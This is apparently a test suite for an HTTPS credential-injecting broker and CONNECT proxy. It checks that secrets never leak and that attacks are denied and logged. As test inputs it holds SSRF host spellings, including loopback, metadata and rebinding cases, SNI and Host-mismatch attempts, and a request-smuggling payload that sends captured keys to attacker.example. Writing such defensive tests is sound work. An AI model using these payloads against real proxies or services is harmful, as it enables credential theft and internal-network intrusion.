import * as NodeFileSystem from "@effect/platform-node/NodeFileSystem"
import * as FileSystem from "@effect/platform/FileSystem"
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Fiber from "effect/Fiber"
import * as Queue from "effect/Queue"
import * as Schedule from "effect/Schedule"
import * as Schema from "effect/Schema"
import * as Scope from "effect/Scope"
import * as Stream from "effect/Stream"
import { execFile } from "node:child_process"
import * as crypto from "node:crypto"
import * as net from "node:net"
import * as path from "node:path"
import type { Duplex } from "node:stream"
import * as tls from "node:tls"
import { promisify } from "node:util"
import { startConnectProxy } from "../src/guest/connectProxy.js"
import { type HttpsBrokerOptions, makeHttpsBroker } from "../src/broker/HttpsBrokerLive.js"
import { makeSessionCa } from "../src/broker/ca.js"
import { formatBrokerLog, readBrokerLog } from "../src/broker/log.js"
import type { BrokerPolicyEncoded } from "../src/broker/policy.js"
import { decodePolicy } from "../src/broker/policy.js"
import { GuestConfig } from "../src/protocol/GuestConfig.js"
import type { TunnelRequest } from "../src/services/GuestRpc.js"
import {
  clientHelloBytes,
  connectThroughProxy,
  duplexPair,
  inMemoryTunnel,
  startUpstream
} from "./support/brokerHarness.js"

const run = promisify(execFile)
const hasCurl = await run("curl", ["--version"]).then(
  () => true,
  () => false
)

const NAME = "test.local"

interface Setup {
  readonly policy?: (upstreamPort: number, envVar: string) => BrokerPolicyEncoded
  readonly broker?: Partial<HttpsBrokerOptions>
  readonly proxyHeadTimeoutMs?: number
  /** the upstream's name (default test.local) */
  readonly name?: string
  /** trust the upstream's CA through the layer's test option (default true) */
  readonly extraCa?: boolean
  /** runs with the upstream's CA before the broker session is made */
  readonly beforeBroker?: (upstreamCaPem: string) => Effect.Effect<void>
}

/**
 * The whole host path without a VM: CONNECT proxy → in-memory tunnel → HttpsBroker → HTTPS
 * upstream on 127.0.0.1 (`test.local` pinned by the policy's resolve map).
 */
const setup = (options: Setup = {}) =>
  Effect.gen(function* () {
    const fs = yield* FileSystem.FileSystem
    const dir = yield* fs.makeTempDirectoryScoped({ prefix: "abox-broker-" })
    const sessionDir = path.join(dir, "session")
    yield* fs.makeDirectory(sessionDir, { mode: 0o700 })
    const upstream = yield* Effect.acquireRelease(
      Effect.promise(() => startUpstream(options.name ?? NAME)),
      (u) => Effect.promise(() => u.close())
    )
    const envVar = `ABOX_TEST_CANARY_${crypto.randomBytes(4).toString("hex").toUpperCase()}`
    const secret = `sk-canary-${crypto.randomBytes(24).toString("hex")}`
    process.env[envVar] = secret
    yield* Effect.addFinalizer(() => Effect.sync(() => delete process.env[envVar]))
    const encoded: BrokerPolicyEncoded = options.policy?.(upstream.port, envVar) ?? {
      format: 1,
      allow: [{ host: NAME, ports: [upstream.port] }],
      credentials: [{ host: NAME, header: "x-api-key", fromEnv: envVar }],
      resolve: { [NAME]: "127.0.0.1" }
    }
    const upstreamCaFile = path.join(dir, "upstream-ca.pem")
    yield* fs.writeFileString(upstreamCaFile, upstream.caPem)
    const policy = yield* decodePolicy(
      typeof encoded.upstreamCaFiles === "undefined"
        ? encoded
        : {
            ...encoded,
            upstreamCaFiles: encoded.upstreamCaFiles.map((f) => f.replace("$UPSTREAM_CA", upstreamCaFile))
          }
    )
    if (options.beforeBroker !== undefined) yield* options.beforeBroker(upstream.caPem)
    const broker = yield* makeHttpsBroker({
      ...(options.extraCa === false ? {} : { extraUpstreamCa: [upstream.caPem] }),
      ...options.broker
    })
    const session = yield* broker.make(policy, { sessionId: "s-test", sessionDir })
    const queue = yield* Queue.unbounded<TunnelRequest>()
    yield* Effect.forkScoped(session.serve(Stream.fromQueue(queue)))
    let channel = 1
    const proxy = yield* Effect.acquireRelease(
      Effect.promise(() =>
        startConnectProxy({
          openTunnel: (host, port) => {
            const tunnel = inMemoryTunnel(channel++, host, port)
            Queue.unsafeOffer(queue, tunnel.request)
            return tunnel.result
          },
          ...(options.proxyHeadTimeoutMs === undefined ? {} : { headTimeoutMs: options.proxyHeadTimeoutMs })
        })
      ),
      (p) => Effect.promise(() => p.close())
    )
    const caFile = path.join(dir, "session-ca.pem")
    yield* fs.writeFileString(caFile, session.caCertPem)
    const curl = (url: string, extra: ReadonlyArray<string> = [], ca = caFile) =>
      Effect.promise(() =>
        run("curl", [
          "-sS",
          "--max-time",
          "20",
          "--proxy",
          `http://127.0.0.1:${proxy.port}`,
          "--cacert",
          ca,
          ...extra,
          "-w",
          "\n%{http_code}",
          url
        ]).then(
          ({ stdout, stderr }) => ({ stdout, stderr, ok: true }),
          (error: { stdout?: string; stderr?: string }) => ({
            stdout: error.stdout ?? "",
            stderr: error.stderr ?? "",
            ok: false
          })
        )
      )
    const logEntries = Effect.map(readBrokerLog(session.logPath), (r) => r.entries)
    return {
      fs,
      dir,
      sessionDir,
      upstream,
      envVar,
      secret,
      session,
      proxy,
      caFile,
      upstreamCaFile,
      curl,
      logEntries
    }
  })

type Env = Effect.Effect.Success<ReturnType<typeof setup>>

/** every file under dir, recursively */
const allFiles = (fs: FileSystem.FileSystem, dir: string) =>
  Effect.map(fs.readDirectory(dir, { recursive: true }), (names) => names.map((n) => path.join(dir, n)))

/** TLS to the upstream name through the proxy with the session CA; raw HTTP written by the test */
const tlsThroughProxy = (env: Env, servername: string, target = `${NAME}:${env.upstream.port}`) =>
  Effect.promise(async () => {
    const opened = await connectThroughProxy(env.proxy.port, target)
    if (!opened.ok) throw new Error(`CONNECT refused: ${opened.head}`)
    const socket = tls.connect({ socket: opened.socket, servername, ca: [env.session.caCertPem] })
    const handshake = await new Promise<"ok" | string>((resolve) => {
      socket.once("secureConnect", () => resolve("ok"))
      socket.once("error", (e: NodeJS.ErrnoException) => resolve(e.code ?? e.message))
    })
    return { socket, handshake }
  })

const readAll = (socket: Duplex) =>
  Effect.promise(
    () =>
      new Promise<string>((resolve) => {
        let text = ""
        socket.on("data", (c: Buffer) => (text += c.toString("latin1")))
        socket.on("error", () => resolve(text))
        socket.on("close", () => resolve(text))
      })
  )

const scoped = <A, E>(effect: Effect.Effect<A, E, FileSystem.FileSystem | Scope.Scope>) =>
  effect.pipe(Effect.scoped, Effect.provide(NodeFileSystem.layer))

describe("HttpsBroker through the CONNECT proxy (real sockets, no VM)", () => {
  it.live.skipIf(!hasCurl)(
    "curl gets the upstream's answer; the upstream sees the real credential; the secret goes nowhere else",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const url = `https://${NAME}:${env.upstream.port}/hello`
          const first = yield* env.curl(url, ["-H", "x-api-key: abox-placeholder"])
          const second = yield* env.curl(url) // no header at all: the broker adds it
          expect(first.stdout).toBe("hello from upstream\n\n200")
          expect(second.stdout).toBe("hello from upstream\n\n200")
          expect(env.upstream.seen).toHaveLength(2)
          for (const seen of env.upstream.seen) {
            expect(seen.headers["x-api-key"]).toBe(env.secret)
            expect(seen.headers["host"]).toBe(`${NAME}:${env.upstream.port}`)
          }
          // the client trusted only the session CA: the upstream's own CA does not verify it
          const wrongCa = yield* env.curl(url, [], env.upstreamCaFile)
          expect(wrongCa.ok).toBe(false)

          // canary: nowhere in what the client received, the session dir, or the guest-facing config
          const secretBytes = Buffer.from(env.secret)
          for (const r of [first, second, wrongCa]) expect(r.stdout + r.stderr).not.toContain(env.secret)
          const files = yield* allFiles(env.fs, env.sessionDir)
          expect(files.map((f) => path.basename(f))).toContain("broker.log")
          for (const file of files) {
            const bytes = Buffer.from(yield* env.fs.readFile(file))
            expect(bytes.includes(secretBytes)).toBe(false)
          }
          const guestConfig = Schema.encodeSync(Schema.parseJson(GuestConfig))({
            format: 1,
            sessionId: "s-test",
            model: "m",
            brokerCaCert: env.session.caCertPem
          })
          expect(guestConfig).not.toContain(env.secret)
          expect(env.session.caCertPem).toMatch(
            /^-----BEGIN CERTIFICATE-----[\s\S]*-----END CERTIFICATE-----\s*$/
          )
          expect(env.session.caCertPem).not.toContain("PRIVATE")

          const log = yield* env.logEntries
          const stat = yield* env.fs.stat(env.session.logPath)
          expect(stat.mode & 0o777).toBe(0o600)
          expect(
            log.filter((e) => e.event === "open" && e.decision === "allow" && e.mode === "terminate")
          ).toHaveLength(3)
          expect(log.filter((e) => e.event === "request" && e.status === 200 && e.credential)).toHaveLength(2)
          const closes = log.filter((e) => e.event === "close")
          expect(closes).toHaveLength(3)
          expect(closes.every((e) => (e.bytesUp ?? 0) > 0 && (e.bytesDown ?? 0) > 0)).toBe(true)
          const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
          expect(text).toContain("credential injected")
          expect(text).not.toContain(env.secret)
        })
      )
  )

  it.live("a secret file, read at request time, with a format", () =>
    scoped(
      Effect.gen(function* () {
        const fs = yield* FileSystem.FileSystem
        const secretDir = yield* fs.makeTempDirectoryScoped()
        const secretFile = path.join(secretDir, "key")
        const env = yield* setup({
          policy: (port) => ({
            format: 1,
            allow: [{ host: NAME, ports: [port] }],
            credentials: [{ host: NAME, header: "Authorization", fromFile: secretFile, format: "Bearer {}" }],
            resolve: { [NAME]: "127.0.0.1" }
          })
        })
        const get = Effect.gen(function* () {
          const { socket, handshake } = yield* tlsThroughProxy(env, NAME)
          expect(handshake).toBe("ok")
          socket.write(
            `GET /hello HTTP/1.1\r\nHost: ${NAME}\r\nAuthorization: Bearer abox-placeholder\r\nConnection: close\r\n\r\n`
          )
          return yield* readAll(socket)
        })
        yield* env.session.setTurn(3)
        const missing = yield* get
        expect(missing).toMatch(/^HTTP\/1\.1 502/)
        expect(missing).toContain("credential-unavailable")
        yield* fs.writeFileString(secretFile, "file-secret-1\n")
        const present = yield* get
        expect(present).toMatch(/^HTTP\/1\.1 200/)
        yield* fs.writeFileString(secretFile, "file-secret-2\n")
        yield* get
        expect(env.upstream.seen.map((s) => s.headers["authorization"])).toEqual([
          "Bearer file-secret-1",
          "Bearer file-secret-2"
        ])
        yield* env.session.setTurn(undefined)
        // the broker exposes no "idle" event; the tunnels' close lines come just after the client sees EOF
        yield* env.session.active.pipe(
          Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
          Effect.timeout("5 seconds")
        )
        const log = yield* env.logEntries
        expect(log).toHaveLength(9) // 3 × (open, request, close)
        expect(log.filter((e) => e.turn !== 3)).toEqual([])
        expect(
          log.filter((e) => e.event === "request").map((e) => [e.status, e.reason, e.credential])
        ).toEqual([
          [502, "credential-unavailable", false],
          [200, undefined, true],
          [200, undefined, true]
        ])
      })
    )
  )

  it.live.skipIf(!hasCurl)(
    "a host without a credential rule is passed through as TCP (real certificate, nothing injected)",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup({
            policy: (port) => ({
              format: 1,
              allow: [{ host: NAME, ports: [port] }],
              resolve: { [NAME]: "127.0.0.1" }
            })
          })
          const url = `https://${NAME}:${env.upstream.port}/hello`
          const viaUpstreamCa = yield* env.curl(
            url,
            ["-H", "x-api-key: abox-placeholder"],
            env.upstreamCaFile
          )
          expect(viaUpstreamCa.stdout).toBe("hello from upstream\n\n200")
          expect(env.upstream.seen[0]!.headers["x-api-key"]).toBe("abox-placeholder")
          const log = yield* env.logEntries
          expect(log.find((e) => e.event === "open")).toMatchObject({
            decision: "allow",
            mode: "passthrough",
            credential: false,
            address: "127.0.0.1"
          })
        })
      )
  )
})

describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () => {
  const recordingDial = () => {
    const dialled: Array<string> = []
    const dial = (address: string, port: number): Promise<Duplex> => {
      dialled.push(`${address}:${port}`)
      const [a, b] = duplexPair()
      b.resume()
      return Promise.resolve(a)
    }
    return { dialled, dial }
  }

  const attackPolicy = (port: number, envVar: string): BrokerPolicyEncoded => ({
    format: 1,
    allow: [
      { host: "allowed.com", ports: [443] },
      { host: "*.github.com", ports: [443] },
      { host: NAME, ports: [port] }
    ],
    credentials: [{ host: NAME, header: "x-api-key", fromEnv: envVar }],
    resolve: { [NAME]: "127.0.0.1" }
  })

  it.live("hosts and ports outside the policy, IP literals in every spelling", () =>
    scoped(
      Effect.gen(function* () {
        const { dialled, dial } = recordingDial()
        const resolved: Array<string> = []
        const env = yield* setup({
          policy: attackPolicy,
          broker: {
            dial,
            resolve: (host) => {
              resolved.push(host)
              return Promise.resolve(["93.184.215.14"])
            }
          }
        })
        const attacks: ReadonlyArray<readonly [string, number, string]> = [
          ["allowed.com.evil.com", 443, "host-not-allowed"],
          ["notallowed.com", 443, "host-not-allowed"],
          ["evilallowed.com", 443, "host-not-allowed"],
          ["github.com", 443, "host-not-allowed"],
          ["evilgithub.com", 443, "host-not-allowed"],
          ["allowed.com", 444, "port-not-allowed"],
          ["allowed.com", 80, "port-not-allowed"],
          ["api.github.com", 22, "port-not-allowed"],
          [NAME, 443, "port-not-allowed"],
          ["allowed.com:443@evil.com", 443, "ip-literal"],
          ["allowed.com/evil", 443, "ip-literal"],
          ["all owed.com", 443, "ip-literal"],
          ["allowed..com", 443, "invalid-host"],
          ["", 443, "invalid-host"],
          ["allowed.com", 0, "invalid-port"],
          ...[
            "127.0.0.1",
            "127.1",
            "127.0.1",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "0x7f.1",
            "0x7f.0.0.1",
            "017700000001",
            "127.0.0.1.",
            "%31%32%37.0.0.1",
            "::1",
            "[::1]",
            "::ffff:127.0.0.1",
            "[::ffff:127.0.0.1]",
            "::ffff:7f00:1",
            "[0:0:0:0:0:ffff:127.0.0.1]",
            "fe80::1%eth0",
            "[fe80::1%25eth0]",
            "169.254.169.254",
            "fd00:ec2::254",
            "10.0.0.1",
            "192.168.1.1",
            "100.64.0.1",
            "0.0.0.0",
            "0",
            "255.255.255.255",
            "224.0.0.1",
            "8.8.8.8",
            "[2606:4700:4700::1111]",
            "1.2.3.999"
          ].map((h) => [h, 443, "ip-literal"] as const)
        ]
        let channel = 1000
        for (const [host, port, reason] of attacks) {
          const tunnel = inMemoryTunnel(channel++, host, port)
          yield* env.session.handle(tunnel.request)
          const result = yield* Effect.promise(() => tunnel.result)
          expect({ host, port, result }).toEqual({ host, port, result: { ok: false, reason } })
        }
        expect(dialled).toEqual([])
        expect(resolved).toEqual([])
        const log = yield* env.logEntries
        expect(log).toHaveLength(attacks.length)
        expect(log.every((e) => e.event === "open" && e.decision === "deny")).toBe(true)
        expect(log.map((e) => e.reason)).toEqual(attacks.map((a) => a[2]))

        // through the real proxy, raw CONNECT lines: 403 with the reason
        for (const target of [
          "[::ffff:127.0.0.1]:443",
          "2130706433:443",
          `${NAME}:1`,
          "allowed.com.evil.com:443"
        ]) {
          const opened = yield* Effect.promise(() => connectThroughProxy(env.proxy.port, target))
          expect(opened.ok).toBe(false)
          if (!opened.ok) expect(opened.status).toBe(403)
        }
        expect(dialled).toEqual([])
      })
    )
  )

  it.live(
    "names resolving to private addresses are refused; a rebinding resolver cannot move the dialled address",
    () =>
      scoped(
        Effect.gen(function* () {
          const { dialled, dial } = recordingDial()
          const answers: Record<string, Array<ReadonlyArray<string>>> = {
            "rebind.allowed.com": [["93.184.215.14"], ["127.0.0.1"]],
            "mixed.allowed.com": [["93.184.215.14", "10.0.0.7"]],
            "private.allowed.com": [["192.168.0.10"]],
            "metadata.allowed.com": [["169.254.169.254"]],
            "mapped.allowed.com": [["::ffff:127.0.0.1"]],
            "ula.allowed.com": [["fd12:3456::1"]],
            "nothing.allowed.com": [[]]
          }
          const lookups: Array<string> = []
          const env = yield* setup({
            policy: () => ({ format: 1, allow: [{ host: "*.allowed.com", ports: [443] }] }),
            broker: {
              dial,
              resolve: (host) => {
                lookups.push(host)
                const queue = answers[host]!
                return Promise.resolve(queue.length > 1 ? queue.shift()! : queue[0]!)
              }
            }
          })
          const open = (host: string) =>
            Effect.gen(function* () {
              const tunnel = inMemoryTunnel(1, host, 443)
              const fiber = yield* Effect.fork(env.session.handle(tunnel.request))
              const result = yield* Effect.promise(() => tunnel.result)
              if (result.ok) result.stream.end()
              yield* fiber.await
              return result.ok ? "accepted" : result.reason
            })
          expect(yield* open("rebind.allowed.com")).toBe("accepted")
          expect(dialled).toEqual(["93.184.215.14:443"])
          expect(lookups).toEqual(["rebind.allowed.com"]) // resolved once, dialled what was checked
          expect(yield* open("rebind.allowed.com")).toBe("address-loopback")
          expect(yield* open("mixed.allowed.com")).toBe("address-private")
          expect(yield* open("private.allowed.com")).toBe("address-private")
          expect(yield* open("metadata.allowed.com")).toBe("address-metadata")
          expect(yield* open("mapped.allowed.com")).toBe("address-loopback")
          expect(yield* open("ula.allowed.com")).toBe("address-private")
          expect(yield* open("nothing.allowed.com")).toBe("resolve-failed")
          expect(dialled).toEqual(["93.184.215.14:443"])
          const log = yield* env.logEntries
          expect(log.filter((e) => e.decision === "deny").map((e) => e.reason)).toEqual([
            "address-loopback",
            "address-private",
            "address-private",
            "address-metadata",
            "address-loopback",
            "address-private",
            "resolve-failed"
          ])
        })
      )
  )

  it.live(
    "SNI or Host different from the tunnel's host on a credential host: refused, logged, nothing upstream",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          // SNI names another host: no certificate, handshake refused
          const badSni = yield* tlsThroughProxy(env, "other.local")
          expect(badSni.handshake).not.toBe("ok")
          badSni.socket.destroy()
          // SNI right, Host header names another host
          const badHost = yield* tlsThroughProxy(env, NAME)
          expect(badHost.handshake).toBe("ok")
          badHost.socket.write(`GET /hello HTTP/1.1\r\nHost: other.local\r\nConnection: close\r\n\r\n`)
          const answer = yield* readAll(badHost.socket)
          expect(answer).toMatch(/^HTTP\/1\.1 421/)
          expect(answer).not.toContain(env.secret)
          // no Host at all (HTTP/1.0)
          const noHost = yield* tlsThroughProxy(env, NAME)
          noHost.socket.write(`GET /hello HTTP/1.0\r\n\r\n`)
          expect(yield* readAll(noHost.socket)).toMatch(/^HTTP\/1\.1 421/)
          expect(env.upstream.seen).toHaveLength(0)
          const reasons = (yield* env.logEntries).filter((e) => e.decision === "deny").map((e) => e.reason)
          expect(reasons).toEqual(["sni-mismatch", "host-mismatch", "host-mismatch"])
        })
      )
  )

  it.live(
    "oversized request headers get 431; a slow client is cut off at the bound; a slow CONNECT too",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup({ broker: { headTimeout: "300 millis" }, proxyHeadTimeoutMs: 300 })
          const big = yield* tlsThroughProxy(env, NAME)
          big.socket.write(`GET /hello HTTP/1.1\r\nHost: ${NAME}\r\nX-Big: ${"a".repeat(70 * 1024)}\r\n\r\n`)
          expect(yield* readAll(big.socket)).toMatch(/^HTTP\/1\.1 431/)

          const slow = yield* tlsThroughProxy(env, NAME)
          const started = Date.now()
          slow.socket.write(`GET /hello HTTP/1.1\r\nHost: ${NAME}\r\n`)
          const slowAnswer = yield* readAll(slow.socket)
          const waited = Date.now() - started
          expect(slowAnswer).toBe("")
          expect(waited).toBeGreaterThanOrEqual(250)
          expect(waited).toBeLessThan(5000)
          expect(env.upstream.seen).toHaveLength(0)

          const slowConnect = yield* Effect.promise(async () => {
            const { connect } = await import("node:net")
            const socket = connect({ host: "127.0.0.1", port: env.proxy.port })
            socket.write("CONNECT test.lo")
            return socket
          })
          expect(yield* readAll(slowConnect)).toMatch(/^HTTP\/1\.1 408/)

          const reasons = (yield* env.logEntries).filter((e) => e.decision === "deny").map((e) => e.reason)
          expect(reasons).toEqual(["header-too-large", "head-timeout"])
        })
      )
  )

  it.live(
    "pass-through hosts: the ClientHello must name the CONNECT host (no fronting, no missing SNI, no plain bytes)",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup({
            policy: (port) => ({
              format: 1,
              allow: [{ host: NAME, ports: [port] }],
              resolve: { [NAME]: "127.0.0.1" }
            })
          })
          const target = `${NAME}:${env.upstream.port}`
          const attempt = (servername: string) =>
            Effect.promise(async () => {
              const opened = await connectThroughProxy(env.proxy.port, target)
              if (!opened.ok) throw new Error(`CONNECT refused: ${opened.head}`)
              // the name is checked by the broker, not by this client: a front end serving many
              // tenants would present a certificate valid for both names
              const socket = tls.connect({
                socket: opened.socket,
                servername,
                ca: [env.upstream.caPem],
                checkServerIdentity: () => undefined
              })
              return await new Promise<string>((resolve) => {
                socket.once("secureConnect", () => {
                  socket.destroy()
                  resolve("ok")
                })
                socket.once("error", (e: NodeJS.ErrnoException) => resolve(e.code ?? e.message))
              })
            })
          // another tenant's name behind the same front end: refused before a byte goes upstream
          expect(yield* attempt("evil.test")).not.toBe("ok")
          // no SNI at all (node sends none for an empty servername)
          expect(yield* attempt("")).not.toBe("ok")
          // plain bytes instead of TLS
          const plain = yield* Effect.promise(async () => {
            const opened = await connectThroughProxy(env.proxy.port, target)
            if (!opened.ok) throw new Error("CONNECT refused")
            opened.socket.resume()
            opened.socket.write(`GET /hello HTTP/1.1\r\nHost: evil.test\r\n\r\n`)
            return opened.socket
          })
          expect(yield* readAll(plain)).toBe("")
          expect(env.upstream.seen).toHaveLength(0)
          // the right name still works
          expect(yield* attempt(NAME)).toBe("ok")
          yield* env.session.active.pipe(
            Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
            Effect.timeout("5 seconds")
          )
          const log = yield* env.logEntries
          expect(log.filter((e) => e.decision === "deny").map((e) => [e.event, e.reason])).toEqual([
            ["request", "sni-mismatch"],
            ["request", "sni-missing"],
            ["request", "not-tls"]
          ])
          expect(log.filter((e) => e.event === "close").map((e) => e.reason)).toEqual([
            "sni-mismatch",
            "sni-missing",
            "not-tls",
            undefined
          ])
        })
      )
  )

  it.live(
    "a pass-through upstream that resets before the guest's ClientHello ends that tunnel only (no crash of the host)",
    () =>
      scoped(
        Effect.gen(function* () {
          // an upstream that accepts, then resets the connection a moment later
          const resetting = yield* Effect.acquireRelease(
            Effect.promise(
              () =>
                new Promise<net.Server>((resolve) => {
                  const server = net.createServer((socket) => {
                    setTimeout(() => socket.resetAndDestroy(), 150)
                  })
                  server.listen(0, "127.0.0.1", () => resolve(server))
                })
            ),
            (server) => Effect.promise(() => new Promise<void>((resolve) => server.close(() => resolve())))
          )
          const resetPort = (resetting.address() as net.AddressInfo).port
          const env = yield* setup({
            policy: (port) => ({
              format: 1,
              allow: [{ host: NAME, ports: [port, resetPort] }],
              resolve: { [NAME]: "127.0.0.1" }
            })
          })
          const opened = yield* Effect.promise(() =>
            connectThroughProxy(env.proxy.port, `${NAME}:${resetPort}`)
          )
          expect(opened.ok).toBe(true)
          if (!opened.ok) return
          // the reset reaches the broker while it waits for the ClientHello: that tunnel is closed
          // as the upstream's doing (before, the reset was an uncaught error of the host process)
          const closes = yield* env.logEntries.pipe(
            Effect.map((entries) => entries.filter((e) => e.event === "close").map((e) => e.reason)),
            Effect.filterOrFail((reasons) => reasons.length > 0),
            Effect.retry(Schedule.spaced("50 millis")),
            Effect.timeout("10 seconds")
          )
          expect(closes).toEqual(["upstream-closed"])
          opened.socket.destroy()
          // the broker goes on serving the session's other tunnels
          const again = yield* Effect.promise(() =>
            connectThroughProxy(env.proxy.port, `${NAME}:${env.upstream.port}`)
          ).pipe(Effect.timeoutFail({ duration: "10 seconds", onTimeout: () => new Error("step: again") }))
          expect(again.ok).toBe(true)
          if (again.ok) again.socket.destroy()
        })
      )
  )

  it.live("a bounded number of concurrent tunnels per session", () =>
    scoped(
      Effect.gen(function* () {
        const { dial } = recordingDial()
        const env = yield* setup({
          policy: () => ({ format: 1, allow: [{ host: "allowed.com", ports: [443] }] }),
          broker: { dial, maxTunnels: 2, resolve: () => Promise.resolve(["93.184.215.14"]) }
        })
        const tunnels = [1, 2, 3].map((c) => inMemoryTunnel(c, "allowed.com", 443))
        const fibers = []
        for (const t of tunnels) fibers.push(yield* Effect.forkScoped(env.session.handle(t.request)))
        const results = yield* Effect.promise(() => Promise.all(tunnels.map((t) => t.result)))
        expect(results.map((r) => (r.ok ? "ok" : r.reason))).toEqual(["ok", "ok", "too-many-tunnels"])
        expect(yield* env.session.active).toBe(2)
        for (const r of results) if (r.ok) r.stream.end()
        // once the first two have closed, a new tunnel is admitted again
        for (const fiber of fibers) yield* Fiber.join(fiber)
        expect(yield* env.session.active).toBe(0)
        const fourth = inMemoryTunnel(4, "allowed.com", 443)
        yield* Effect.forkScoped(env.session.handle(fourth.request))
        expect((yield* Effect.promise(() => fourth.result)).ok).toBe(true)
      })
    )
  )

  it.live(
    "a flood of 20,000 denied tunnels writes a bounded broker.log, with the count of what was not written",
    () =>
      scoped(
        Effect.gen(function* () {
          const fs = yield* FileSystem.FileSystem
          const sessionDir = yield* fs.makeTempDirectoryScoped()
          const policy = yield* decodePolicy({ format: 1, allow: [{ host: "allowed.com", ports: [443] }] })
          const broker = yield* makeHttpsBroker({ resolve: () => Promise.resolve(["93.184.215.14"]) })
          let started = Date.now()
          const logPath = yield* Effect.scoped(
            Effect.gen(function* () {
              const session = yield* broker.make(policy, { sessionId: "s-flood", sessionDir })
              started = Date.now()
              yield* Effect.forEach(
                Array.from({ length: 20_000 }, (_, i) => i),
                (i) =>
                  session.handle(
                    inMemoryTunnel(2 * i + 1, `h${i}-${"x".repeat(200)}.evil.example`, 443).request
                  ),
                { concurrency: "unbounded", discard: true }
              )
              return session.logPath
            })
          )
          // the limit is per 10 s window: a loaded machine may spread the flood over several
          const windows = Math.ceil((Date.now() - started) / 10_000) + 1
          const size = (yield* fs.stat(logPath)).size
          expect(Number(size)).toBeLessThan(128 * 1024 * windows)
          const log = (yield* readBrokerLog(logPath)).entries
          const denials = log.filter((e) => e.event === "open")
          expect(denials.length).toBeGreaterThan(0)
          expect(denials.length).toBeLessThanOrEqual(100 * windows)
          const suppressed = log
            .filter((e) => e.event === "suppressed")
            .reduce((n, e) => n + (e.count ?? 0), 0)
          expect(denials.length + suppressed).toBe(20_000)
        })
      )
  )

  it.live("closing the session's scope ends its open tunnels and still logs their close", () =>
    scoped(
      Effect.gen(function* () {
        const fs = yield* FileSystem.FileSystem
        const sessionDir = yield* fs.makeTempDirectoryScoped()
        const { dial } = recordingDial()
        const policy = yield* decodePolicy({ format: 1, allow: [{ host: "allowed.com", ports: [443] }] })
        const broker = yield* makeHttpsBroker({ dial, resolve: () => Promise.resolve(["93.184.215.14"]) })
        const sessionScope = yield* Scope.make()
        const session = yield* broker
          .make(policy, { sessionId: "s-close", sessionDir })
          .pipe(Scope.extend(sessionScope))
        const queue = yield* Queue.unbounded<TunnelRequest>()
        yield* session.serve(Stream.fromQueue(queue)).pipe(Effect.forkIn(sessionScope))
        const tunnel = inMemoryTunnel(7, "allowed.com", 443)
        yield* Queue.offer(queue, tunnel.request)
        const opened = yield* Effect.promise(() => tunnel.result)
        expect(opened.ok).toBe(true)
        if (!opened.ok) return
        opened.stream.write(yield* Effect.promise(() => clientHelloBytes("allowed.com")))
        const ended = new Promise<void>((resolve) => opened.stream.once("close", () => resolve()))
        opened.stream.resume()
        yield* Scope.close(sessionScope, Exit.void).pipe(
          Effect.timeoutFail({ duration: "3 seconds", onTimeout: () => new Error("scope close hangs") })
        )
        yield* Effect.promise(() => ended).pipe(
          Effect.timeoutFail({
            duration: "3 seconds",
            onTimeout: () => new Error("the guest end of the tunnel was not closed")
          })
        )
        const log = (yield* readBrokerLog(session.logPath)).entries
        expect(log.map((e) => [e.event, e.decision, e.reason])).toEqual([
          ["open", "allow", undefined],
          ["close", "allow", "session-closed"]
        ])
      })
    )
  )
})

/** write raw HTTP on a TLS socket; read until `until(text)` or the socket closes or `ms` pass */
const exchange = (socket: Duplex, request: string, until: (text: string) => boolean, ms = 5000) =>
  Effect.promise(
    () =>
      new Promise<string>((resolve) => {
        let text = ""
        const done = () => {
          clearTimeout(timer)
          socket.off("data", onData)
          resolve(text)
        }
        const onData = (c: Buffer) => {
          text += c.toString("latin1")
          if (until(text)) done()
        }
        const timer = setTimeout(done, ms)
        socket.on("data", onData)
        socket.once("close", done)
        socket.write(request)
      })
  )

/** a whole response with Content-Length, or a chunked one, has arrived */
const responseComplete = (text: string) => {
  const end = text.indexOf("\r\n\r\n")
  if (end < 0) return false
  const head = text.slice(0, end).toLowerCase()
  const length = /content-length: *(\d+)/.exec(head)
  if (length !== null) return text.length - end - 4 >= Number(length[1])
  return /transfer-encoding: *chunked/.test(head) ? text.endsWith("0\r\n\r\n") : true
}

describe("HttpsBroker credential hosts: framing and the placeholder", () => {
  it.live(
    "request smuggling: a chunked body on a GET cannot become a request to another virtual host carrying the next request's key",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const host = `${NAME}:${env.upstream.port}`
          const { socket, handshake } = yield* tlsThroughProxy(env, NAME)
          expect(handshake).toBe("ok")
          // the smuggled request swallows what follows it on the upstream connection as its body
          const smuggled = `POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n`
          const first = yield* exchange(
            socket,
            `GET /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n` +
              `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
            responseComplete
          )
          expect(first).toMatch(/^HTTP\/1\.1 404/)
          const second = yield* exchange(
            socket,
            `GET /hello HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
            (t) => t.includes("hello from upstream"),
            3000
          )
          socket.destroy()
          // on a connection reused after an unframed body, the next request's key became the
          // body of a request to attacker.example
          expect(env.upstream.seen.filter((r) => r.headers["host"] === "attacker.example")).toEqual([])
          expect(env.upstream.seen.some((r) => r.body.includes(env.secret))).toBe(false)
          expect(second).toContain("hello from upstream")
          // the upstream saw exactly the two requests, both for the tunnel's host
          expect(env.upstream.seen.map((r) => [r.method, r.url, r.headers["host"]])).toEqual([
            ["GET", "/echo", host],
            ["GET", "/hello", host]
          ])
          expect(env.upstream.seen[0]!.body).toBe(smuggled)
          for (const r of env.upstream.seen) expect(r.headers["x-api-key"]).toBe(env.secret)
        })
      )
  )

